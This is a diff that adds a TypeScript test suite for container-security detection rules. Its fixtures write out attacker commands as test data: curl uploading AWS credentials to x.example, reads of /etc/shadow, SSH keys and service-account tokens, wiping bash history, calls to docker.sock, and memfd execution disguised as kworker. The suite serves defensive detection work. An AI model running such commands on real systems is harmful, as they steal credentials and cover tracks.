@@ -1,0 +1,162 @@
+/**
+ * The rules on what the kernel reads from the file itself (binary drift,
+ * fileless execution) and on watched-file access: each on what it must
+ * catch, on the evasions the kernel facts defeat (renamed copies, other
+ * programs, other paths to the same file), and on close benign look-alikes.
+ */
+import assert from 'node:assert/strict';
+import { describe, test } from 'node:test';
+import type { Event__Output } from '../../../../../proto/generated/vigil/v1/Event';
+import type { FileAccess__Output } from '../../../../../proto/generated/vigil/v1/FileAccess';
+import type { HostRule } from '../../../../../controlplane/src/detections/rule';
+import { binaryNotInImage } from '../../../../../controlplane/src/detections/rules/binary-not-in-image';
+import { credentialsReadInContainer } from '../../../../../controlplane/src/detections/rules/credentials-read-in-container';
+import { filelessExecution } from '../../../../../controlplane/src/detections/rules/fileless-execution';
+import { runtimeSocketFromContainer } from '../../../../../controlplane/src/detections/rules/runtime-socket-from-container';
+import { serviceAccountTokenRead } from '../../../../../controlplane/src/detections/rules/service-account-token-read';
+import { shellHistoryCleared } from '../../../../../controlplane/src/detections/rules/shell-history-cleared';
+import { CONTAINER_ID, connectEvent, execEvent, fileEvent } from '../../../../helpers/synthetic-events';
+import { ruleContext } from '../../../../helpers/rule-context';
+
+const IMAGE = 'registry.example.com/shop/web:1.4';
+const inImage = (ev: Event__Output, image = IMAGE): Event__Output => ({ ...ev, container: ev.container!.id ? { ...ev.container!, image } : ev.container });
+
+/** A file access by `exe argv`, pid `pid` (in-namespace `nsPid`). */
+function access(exe: string, argv: string[], f: Partial<FileAccess__Output>, o: { pid?: number; nsPid?: number; containerId?: string } = {}): Event__Output {
+  const ev = fileEvent(f, { pid: o.pid ?? 700, containerId: o.containerId });
+  return inImage({ ...ev, process: { ...ev.process!, exe, argv, comm: exe.slice(exe.lastIndexOf('/') + 1).slice(0, 15), ns_pid: o.nsPid ?? o.pid ?? 700 } });
+}
+
+/** The container as the engine knows it: its entrypoint (pid 500, ns pid 1) ran these programs. */
+const workload = (...initExes: string[]) => ruleContext({ facts: { id: CONTAINER_ID, initPid: 500, initExes: new Set(initExes) } });
+
+function fires(rule: HostRule, cases: [string, Event__Output, ReturnType<typeof ruleContext>?][]): void {
+  for (const [what, ev, ctx] of cases) assert.ok(rule.match(ev, ctx ?? ruleContext()), `should fire: ${what}`);
+}
+function silent(rule: HostRule, cases: [string, Event__Output, ReturnType<typeof ruleContext>?][]): void {
+  for (const [what, ev, ctx] of cases) assert.equal(rule.match(ev, ctx ?? ruleContext()), null, `should not fire: ${what}`);
+}
+
+describe('rule binary-not-in-image', () => {
+  const exec = (filename: string, argv: string[], o: Parameters<typeof execEvent>[0] = {}) => inImage(execEvent({ filename, argv, containerId: CONTAINER_ID, ...o }));
+  test('a file of the writable layer, whatever its name; a script written at run time; a binary in a scratch tmpfs', () => {
+    fires(binaryNotInImage, [
+      ['a binary copied in with cp', exec('/usr/local/bin/kubectl', ['kubectl', 'get', 'secrets'], { binary: { layer: 'LAYER_UPPER', name: 'kubectl' } })],
+      ['a renamed copy of the shell', exec('/tmp/systemd-helper', ['/tmp/systemd-helper', '-c', 'id'], { binary: { layer: 'LAYER_UPPER', name: 'systemd-helper' } })],
+      ['an image binary modified in place (copied up)', exec('/bin/ls', ['ls'], { binary: { layer: 'LAYER_UPPER', name: 'ls' } })],
+      ['a downloaded script made executable, run by an image interpreter', exec('/tmp/x.sh', ['/tmp/x.sh'], { binary: { layer: 'LAYER_LOWER', name: 'busybox' }, script: { layer: 'LAYER_UPPER', name: 'x.sh' }, interpreter: '/bin/sh' })],
+      ['a binary in an emptyDir /tmp', exec('/tmp/xmrig', ['/tmp/xmrig'], { binary: { layer: 'LAYER_NOT_OVERLAY', name: 'xmrig' } })],
+    ]);
+  });
+  test('not: image binaries and image scripts, the host, build images, volumes outside scratch dirs', () => {
+    silent(binaryNotInImage, [
+      ['an image binary', exec('/bin/busybox', ['sh'])],
+      ['an image script', exec('/usr/local/bin/docker-entrypoint.sh', ['docker-entrypoint.sh'], { binary: { layer: 'LAYER_LOWER', name: 'bash' }, script: { layer: 'LAYER_LOWER', name: 'docker-entrypoint.sh' }, interpreter: '/bin/bash' })],
+      ['the host', execEvent({ filename: '/usr/local/bin/new-tool', binary: { layer: 'LAYER_NOT_OVERLAY', name: 'new-tool' } })],
+      ['an image builder', inImage(exec('/kaniko/executor', ['/kaniko/executor'], { binary: { layer: 'LAYER_UPPER', name: 'executor' } }), 'gcr.io/kaniko-project/executor:v1.23.0')],
+      ['a binary on a mounted volume', exec('/opt/tools/run', ['/opt/tools/run'], { binary: { layer: 'LAYER_NOT_OVERLAY', name: 'run' } })],
+      ['a layer that could not be read', exec('/bin/true', ['true'], { binary: { layer: 'LAYER_UNKNOWN', name: 'true' } })],
+    ]);
+  });
+});
+
+describe('rule fileless-execution', () => {
+  test('a memory file or a deleted file, run by any name, on the host or in a container', () => {
+    fires(filelessExecution, [
+      ['memfd through /proc/self/fd', execEvent({ filename: '/proc/self/fd/3', argv: ['[kworker/0:1]'], binary: { memfd: true, links: 0, layer: 'LAYER_NOT_OVERLAY', name: 'memfd:x' }, viaFd: true })],
+      ['execveat on a memfd in a container', inImage(execEvent({ filename: '/dev/fd/4', argv: ['sshd'], containerId: CONTAINER_ID, binary: { memfd: true, links: 0, name: 'memfd:' }, viaFd: true }))],
+      ['a binary deleted after it was opened', execEvent({ filename: '/tmp/.x', argv: ['/tmp/.x'], binary: { deleted: true, links: 0, name: '.x' } })],
+    ]);
+  });
+  test('not: runc and crun running their sealed copy, files on disk run through an fd', () => {
+    silent(filelessExecution, [
+      ['runc init', execEvent({ filename: '/proc/self/exe', argv: ['runc', 'init'], comm: 'runc:[2:INIT]', binary: { memfd: true, links: 0, name: 'memfd:runc_cloned:/proc/self/exe' } })],
+      ['a plain binary', execEvent({ filename: '/usr/bin/env' })],
+      ['fexecve of a file on disk', execEvent({ filename: '/dev/fd/3', argv: ['tool'], viaFd: true, binary: { links: 1, name: 'tool' } })],
+    ]);
+  });
+});
+
+describe('rule service-account-token-read', () => {
+  const token = '/var/run/secrets/kubernetes.io/serviceaccount/token';
+  test('a shell, cat, curl or a one-liner in the container; another pod\'s token read on the node', () => {
+    fires(serviceAccountTokenRead, [
+      ['cat from kubectl exec', access('/bin/cat', ['cat', token], { path: token }, { containerId: CONTAINER_ID, pid: 900, nsPid: 17 }), workload('/app/server')],
+      ['a copy of cat under another name', access('/tmp/x', ['/tmp/x', token], { path: token }, { containerId: CONTAINER_ID, pid: 901, nsPid: 18 }), workload('/app/server')],
+      ['a python one-liner in a python app', access('/usr/bin/python3.11', ['python3', '-c', `print(open("${token}").read())`], { path: token }, { containerId: CONTAINER_ID, pid: 902, nsPid: 19 }), workload('/usr/bin/python3.11')],
+      ['the projected token path', access('/bin/busybox', ['head', '/var/run/secrets/tokens/vault'], { path: '/var/run/secrets/tokens/vault', watched: '/var/run/secrets/tokens/' }, { containerId: CONTAINER_ID, pid: 903, nsPid: 20 }), workload('/app/server')],
+      ['another pod\'s token on the node', access('/usr/bin/find', ['find', '/var/lib/kubelet/pods', '-name', 'token', '-exec', 'cat', '{}', ';'], { path: '/var/lib/kubelet/pods/9f1/volumes/kubernetes.io~projected/kube-api-access-x/token', watched: '/var/lib/kubelet/pods/*/volumes/kubernetes.io~projected/' })],
+    ]);
+  });
+  test('not: the entrypoint, its workers, the kubelet, a failed open, a write', () => {
+    silent(serviceAccountTokenRead, [
+      ['the entrypoint itself', access('/app/server', ['/app/server'], { path: token }, { containerId: CONTAINER_ID, pid: 500, nsPid: 1 }), workload('/app/server')],
+      ['a worker running the entrypoint\'s program', access('/usr/bin/python3.11', ['gunicorn: worker [app]'], { path: token }, { containerId: CONTAINER_ID, pid: 610, nsPid: 9 }), workload('/usr/bin/python3.11')],
+      ['the kubelet mounting the volume', access('/usr/bin/kubelet', ['/usr/bin/kubelet'], { path: '/var/lib/kubelet/pods/9f1/volumes/kubernetes.io~projected/kube-api-access-x/token', watched: '/var/lib/kubelet/pods/*/volumes/kubernetes.io~projected/' })],
+      ['a failed open', access('/bin/cat', ['cat', token], { path: token, result: -2 }, { containerId: CONTAINER_ID, pid: 904, nsPid: 21 }), workload('/app/server')],
+      ['a write', access('/bin/cat', ['cat', token], { path: token, access: 'ACCESS_WRITE' }, { containerId: CONTAINER_ID, pid: 905, nsPid: 22 }), workload('/app/server')],
+    ]);
+  });
+});
+
+describe('rule credentials-read-in-container', () => {
+  test('keys, hashes, kubeconfigs and cloud credentials read by what someone ran in the container', () => {
+    fires(credentialsReadInContainer, [
+      ['/etc/shadow', access('/bin/cat', ['cat', '/etc/shadow'], { path: '/etc/shadow', watched: '/etc/shadow', category: 'shadow' }, { containerId: CONTAINER_ID, pid: 910, nsPid: 30 }), workload('/app/server')],
+      ['an SSH private key', access('/usr/bin/base64', ['base64', '/root/.ssh/id_ed25519'], { path: '/root/.ssh/id_ed25519', watched: '/root/.ssh/', category: 'ssh' }, { containerId: CONTAINER_ID, pid: 911, nsPid: 31 }), workload('/app/server')],
+      ['the kubelet\'s kubeconfig through a host mount', access('/bin/sh', ['sh'], { path: '/etc/kubernetes/kubelet.conf', watched: '/etc/kubernetes/', category: 'kubelet-credentials' }, { containerId: CONTAINER_ID, pid: 912, nsPid: 32 }), workload('/app/server')],
+      ['AWS credentials', access('/usr/bin/curl', ['curl', '-F', 'f=@/root/.aws/credentials', 'https://x.example'], { path: '/root/.aws/credentials', watched: '/root/.aws/credentials', category: 'cloud-credentials' }, { containerId: CONTAINER_ID, pid: 913, nsPid: 33 }), workload('/app/server')],
+    ]);
+  });
+  test('not: the workload reading what it was given, an SSH server reading its keys, the host, tokens (their own rule)', () => {
+    silent(credentialsReadInContainer, [
+      ['the app reading its cloud credentials', access('/app/server', ['/app/server'], { path: '/root/.aws/credentials', watched: '/root/.aws/credentials', category: 'cloud-credentials' }, { containerId: CONTAINER_ID, pid: 500, nsPid: 1 }), workload('/app/server')],
+      ['sshd reading its host key', access('/usr/sbin/sshd', ['sshd: [accepted]'], { path: '/etc/ssh/ssh_host_ed25519_key', watched: '/etc/ssh/ssh_host_', category: 'ssh' }, { containerId: CONTAINER_ID, pid: 920, nsPid: 40 }), workload('/usr/bin/supervisord')],
+      ['login on the host', access('/usr/sbin/sshd', ['sshd'], { path: '/etc/shadow', watched: '/etc/shadow', category: 'shadow' })],
+      ['a token', access('/bin/cat', ['cat', 'token'], {}, { containerId: CONTAINER_ID, pid: 921, nsPid: 41 }), workload('/app/server')],
+    ]);
+  });
+});
+
+describe('rule shell-history-cleared', () => {
+  const hist = (access: FileAccess__Output['access']) => ({ path: '/root/.bash_history', watched: '/root/.bash_history', category: 'shell-history', access });
+  test('deleted, replaced, or truncated by a command, on the host or in a container', () => {
+    fires(shellHistoryCleared, [
+      ['rm', access('/bin/rm', ['rm', '-f', '/root/.bash_history'], hist('ACCESS_DELETE'))],
+      ['a link to /dev/null over it', access('/bin/ln', ['ln', '-sf', '/dev/null', '/root/.bash_history'], hist('ACCESS_REPLACE'))],
+      ['truncate -s0', access('/usr/bin/truncate', ['truncate', '-s0', '/root/.bash_history'], hist('ACCESS_TRUNCATE'), { containerId: CONTAINER_ID })],
+      ['a redirection in sh -c', access('/bin/bash', ['bash', '-c', 'cat /dev/null > ~/.bash_history'], hist('ACCESS_TRUNCATE'))],
+      ['a python one-liner', access('/usr/bin/python3', ['python3', '-c', 'open("/root/.bash_history","w")'], hist('ACCESS_TRUNCATE'))],
+    ]);
+  });
+  test('not: an interactive shell saving its history, appends, failures, other files', () => {
+    silent(shellHistoryCleared, [
+      ['bash saving history on exit', access('/bin/bash', ['-bash'], hist('ACCESS_TRUNCATE'))],
+      ['zsh rewriting its history', access('/usr/bin/zsh', ['zsh'], { ...hist('ACCESS_TRUNCATE'), path: '/home/ana/.zsh_history' })],
+      ['an append', access('/bin/bash', ['bash'], hist('ACCESS_WRITE'))],
+      ['rm of a missing file', access('/bin/rm', ['rm', '/root/.bash_history'], { ...hist('ACCESS_DELETE'), result: -2 })],
+      ['another watched file', access('/bin/rm', ['rm', '/root/.ssh/known_hosts'], { path: '/root/.ssh/known_hosts', watched: '/root/.ssh/', category: 'ssh', access: 'ACCESS_DELETE' })],
+    ]);
+  });
+});
+
+describe('rule runtime-socket-from-container', () => {
+  const unix = (path: string, exe = '/usr/bin/curl', image = IMAGE) => inImage({ ...connectEvent('', 0, { exe, argv: [exe, '--unix-socket', path, 'http://d/containers/json'], containerId: CONTAINER_ID }), connect: { result: 0, fd: 3, destination: { family: 'FAMILY_UNIX', address: path, port: 0, raw_family: 1 } } }, image);
+  test('connect to a runtime socket mounted anywhere; opening, deleting or replacing a watched socket path', () => {
+    fires(runtimeSocketFromContainer, [
+      ['docker.sock', unix('/var/run/docker.sock')],
+      ['containerd.sock under a host mount', unix('/host/run/containerd/containerd.sock', '/tmp/ctr')],
+      ['crio.sock', unix('/run/crio/crio.sock')],
+      ['an open of the watched path', access('/bin/cat', ['cat', '/run/containerd/containerd.sock'], { path: '/run/containerd/containerd.sock', watched: '/run/containerd/containerd.sock', category: 'runtime-socket', result: -6 }, { containerId: CONTAINER_ID })],
+    ]);
+  });
+  test('not: the host, trusted images, other unix sockets, TCP', () => {
+    silent(runtimeSocketFromContainer, [
+      ['the host', { ...unix('/run/containerd/containerd.sock'), container: { ...unix('/x').container!, id: '' } }],
+      ['another socket', unix('/var/run/postgresql/.s.PGSQL.5432')],
+      ['TCP to a port named like it', inImage(connectEvent('10.0.0.5', 2375, { containerId: CONTAINER_ID }))],
+    ]);
+    const trusted = ruleContext({ file: { lists: { trusted_images: ['datadog/agent:*'] }, rules: {}, intel: { feeds: [] } } });
+    assert.equal(runtimeSocketFromContainer.match(unix('/var/run/docker.sock', '/usr/bin/agent', 'datadog/agent:7'), trusted), null);
+  });
+});
